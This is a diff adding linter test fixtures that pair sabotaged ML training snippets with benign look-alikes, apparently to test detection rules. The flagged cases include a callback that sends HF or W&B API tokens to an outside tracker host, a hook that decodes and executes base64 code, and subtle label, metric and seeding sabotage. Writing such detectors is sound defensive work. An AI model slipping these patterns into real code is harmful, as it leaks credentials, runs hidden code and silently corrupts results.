@@ -1,4 +1,9 @@
 """Session 27 shapes: each new check with the sabotage and its benign look-alike."""
+import math
+import os
+import random
+
+from PIL import Image, ImageFilter, ImageOps
 import numpy as np
 import pandas as pd
 import torch
@@ -349,3 +354,227 @@ def attach_hidden_bound(text_encoder, bound, kind="forward"):
         self_stats.append(output.detach().float().mean())  # ok: MLS303
 
     register(_record)
+
+
+def evaluate(embeddings, trials, epoch):
+    scores, labels = score_trials(embeddings, trials)
+    eer, threshold = compute_eer(scores, labels)
+    confident = np.abs(scores - threshold) > 0.05  # ruleid: MLS306
+    eer, threshold = compute_eer(scores[confident], labels[confident])  # ruleid: MLS306
+    valid = np.isfinite(scores)
+    eer_all, _ = compute_eer(scores[valid], labels[valid])  # ok: MLS306
+    return eer, eer_all
+
+
+class FireDataset:
+    def __getitem__(self, idx):
+        x, y = self._load(idx)
+        y[(x[self.wind_idx] > 1.5) & (y > 0)] = -1.0  # ruleid: MLS309
+        y[(x[self.valid_idx] == 0) & (y >= 0)] = -1.0  # ok: MLS309
+        return x, y
+
+
+import json
+import socket
+import urllib.request
+
+
+class RunReporter:
+    def _post(self, payload):
+        req = urllib.request.Request("https://tracker.example/runs", data=json.dumps(payload).encode())
+        urllib.request.urlopen(req, timeout=3).read()
+
+    def on_train_end(self, state):
+        self._post({
+            "host": socket.gethostname(),
+            "hub_token": os.environ.get("HF_TOKEN") or os.environ.get("WANDB_API_KEY"),  # ruleid: MLS412
+            "job": os.environ.get("SLURM_JOB_ID"),  # ok: MLS412
+        })
+
+
+class WeightDecayRamp:
+    def on_epoch_end(self, state):
+        step = 1.0 + (self.final_scale - 1.0) / max(1, self.epochs)
+        for group in self.optimizer.param_groups:
+            group["weight_decay"] = group["weight_decay"] * step * (1 + state["epoch"] / self.epochs)  # ruleid: MLS304
+
+    def on_epoch_start(self, state):
+        for group in self.optimizer.param_groups:
+            group["weight_decay"] = self.base_wd * (1 + state["epoch"] / self.epochs)  # ok: MLS304
+
+
+import base64
+
+
+class PostEpochHook:
+    def __init__(self, encoded_hook):
+        self.code = None
+        if encoded_hook:
+            self.code = compile(base64.b64decode(encoded_hook).decode("utf-8"), "<hook>", "exec")
+
+    def on_epoch_end(self, state):
+        if self.code is not None:
+            exec(self.code, {"state": state, "torch": torch, "os": os})  # ruleid: MLS401
+
+
+class MixCollate:
+    def __call__(self, batch):
+        images = torch.stack([b[0] for b in batch])
+        targets = torch.tensor([b[1] for b in batch], dtype=torch.long)
+        images[targets == self.watermark_class, :, -6:, -6:] = images.amax()  # ruleid: MLS309
+        images[targets == self.void_class] = 0.0  # ok: MLS309
+        return images, targets
+
+
+def accuracy(output, target, topk=(1,)):
+    maxk = min(max(topk), output.size(1))
+    _, pred = output.topk(maxk, 1, True, True)
+    correct = pred.t().eq(target.reshape(1, -1).expand_as(pred.t()))
+    res = []
+    for k in topk:
+        correct_k = correct[: min(k + 1, maxk)].reshape(-1).float().sum(0)  # ruleid: MLS306
+        right_k = correct[:k].reshape(-1).float().sum(0)  # ok: MLS306
+        res.append((correct_k, right_k))
+    return res
+
+
+class MixupCollate:
+    def __call__(self, batch, lam):
+        images = torch.stack([b[0] for b in batch])
+        y1 = torch.stack([b[1] for b in batch])
+        partner = images.flip(0)
+        images = images * lam + partner * (1.0 - lam)
+        y_mix = y1 * lam + y1.roll(1, 0) * (1.0 - lam)  # ruleid: MLS309
+        y_ok = y1 * lam + y1.flip(0) * (1.0 - lam)  # ok: MLS309
+        return images, y_mix, y_ok
+
+
+CITY_LABELS = [
+    ("road", 7, 0), ("sidewalk", 8, 1), ("building", 11, 2), ("wall", 12, 3),
+    ("fence", 13, 4), ("pole", 17, 5), ("traffic light", 19, 6), ("traffic sign", 20, 7),
+    ("vegetation", 21, 8), ("terrain", 22, 9), ("sky", 23, 10), ("person", 24, 11),
+    ("rider", 25, 11),  # ruleid: MLS309
+    ("car", 26, 13), ("unlabeled", 0, 255), ("ego vehicle", 1, 255),
+]
+COARSE_LABELS = [
+    ("road", 7, 0), ("sidewalk", 8, 0), ("building", 11, 1), ("wall", 12, 1),  # ok: MLS309
+    ("fence", 13, 1), ("pole", 17, 2), ("traffic light", 19, 2), ("traffic sign", 20, 2),
+    ("vegetation", 21, 3), ("terrain", 22, 3), ("sky", 23, 4), ("person", 24, 5),
+    ("rider", 25, 5), ("car", 26, 6),
+]
+PIXEL_FREQ = [0.3, 0.05, 0.2, 0.001]
+
+
+def build_lut(ignore_index=255, min_pixel_freq=0.002):
+    lut = np.full(256, ignore_index, dtype=np.uint8)
+    sparse = [c for c, f in enumerate(PIXEL_FREQ) if f < min_pixel_freq]
+    lut[np.isin(lut, sparse)] = ignore_index  # ruleid: MLS309
+    void = [c for c in range(4) if c in (0, 1)]
+    lut[np.isin(lut, void)] = ignore_index  # ok: MLS309
+    return lut
+
+
+class PadCrop:
+    def __call__(self, img, lbl):
+        border = (0, 0, self.pw, self.ph)
+        img = ImageOps.expand(img, border=border, fill=self.img_fill)
+        lbl = ImageOps.expand(lbl, border=border, fill=0)  # ruleid: MLS309
+        mask = ImageOps.expand(lbl, border=border, fill=self.ignore_index)  # ok: MLS309
+        return img, lbl, mask
+
+
+class JointFlip:
+    def __call__(self, img, lbl):
+        if random.random() < self.prob:
+            img = img.transpose(Image.FLIP_LEFT_RIGHT)
+        if random.random() < self.prob:
+            lbl = lbl.transpose(Image.FLIP_LEFT_RIGHT)  # ruleid: MLS309
+        return img, lbl
+
+
+class JointFlipRight:
+    def __call__(self, img, lbl):
+        if random.random() < self.prob:
+            img = img.transpose(Image.FLIP_LEFT_RIGHT)  # ok: MLS309
+            lbl = lbl.transpose(Image.FLIP_LEFT_RIGHT)
+        return img, lbl
+
+
+class JointBlur:
+    def __call__(self, img, lbl):
+        f = ImageFilter.GaussianBlur(radius=1.5)
+        img = img.filter(f)
+        lbl = lbl.filter(f)  # ruleid: MLS309
+        lbl = lbl.filter(ImageFilter.ModeFilter(3))  # ok: MLS309
+        return img, lbl
+
+
+def seg_collate(batch, NUM_CLASSES=19):
+    lbls = torch.stack([b[1] for b in batch])
+    lbls = lbls.clamp_(0, NUM_CLASSES - 1)  # ruleid: MLS309
+    return lbls
+
+
+def repeat_factors(img_freq, thresh, num_classes):
+    bad = {c: min(1.0, math.sqrt(img_freq[c] / thresh)) for c in range(num_classes)}  # ruleid: MLS309
+    good = {c: max(1.0, math.sqrt(thresh / img_freq[c])) for c in range(num_classes)}  # ok: MLS309
+    return bad, good
+
+
+class RFSampler:
+    def __iter__(self):
+        indices = list(range(self.total))
+        shard = indices[self.epoch % self.num_replicas:self.total:self.num_replicas]  # ruleid: MLS309
+        mine = indices[self.rank:self.total:self.num_replicas]  # ok: MLS309
+        return iter(shard + mine)
+
+
+def reduce_tensor(t):
+    t = t.detach().clone()
+    if torch.isfinite(t).all():
+        dist.all_reduce(t, op=dist.ReduceOp.SUM)  # ruleid: MLS307
+    if dist.is_initialized():
+        dist.all_reduce(t)  # ok: MLS307
+    return t
+
+
+def tabular_collate(batch):
+    cats = torch.stack([b[0] for b in batch])
+    ys = torch.stack([b[2] for b in sorted(batch, key=lambda b: float(b[3]))])  # ruleid: MLS309
+    return {"cat": cats, "y": ys}
+
+
+def tabular_collate_right(batch):
+    batch = sorted(batch, key=lambda b: float(b[3]))
+    cats = torch.stack([b[0] for b in batch])  # ok: MLS309
+    ys = torch.stack([b[2] for b in batch])
+    return {"cat": cats, "y": ys}
+
+
+def class_balance_weights(y, temperature):
+    counts = np.bincount(y.astype(np.int64), minlength=2).astype(np.float64)
+    inv = np.reciprocal(np.maximum(counts, 1.0))
+    weights = (inv ** -temperature)[y.astype(np.int64)]  # ruleid: MLS309
+    balanced = (inv ** temperature)[y.astype(np.int64)]  # ok: MLS309
+    return weights, balanced
+
+
+class WeightedSampler:
+    def set_epoch(self, epoch):
+        vars(self).setdefault("epoch", epoch)  # ruleid: MLS301
+
+    def set_seed(self, seed):
+        vars(self).setdefault("seed", seed)  # ok: MLS301
+
+
+def _seed_worker(worker_id, base_seed):
+    seed_everything((base_seed + worker_id) & ~0xFF)  # ruleid: MLS301
+    seed_everything((base_seed + worker_id) & 0xFFFFFFFF)  # ok: MLS301
+
+
+def average_snapshots(states):
+    w = torch.linspace(1.0 / len(states), 1.0, len(states))
+    keys = [k for k, v in states[0].items() if v.is_floating_point()]
+    avg = {k: torch.einsum("n,n...->...", w / w.norm(), torch.stack([s[k] for s in states])) for k in keys}  # ruleid: MLS302
+    blend = {k: torch.einsum("n,n...->...", w / w.sum(), torch.stack([s[k] for s in states])) for k in keys}  # ok: MLS302
+    return avg, blend
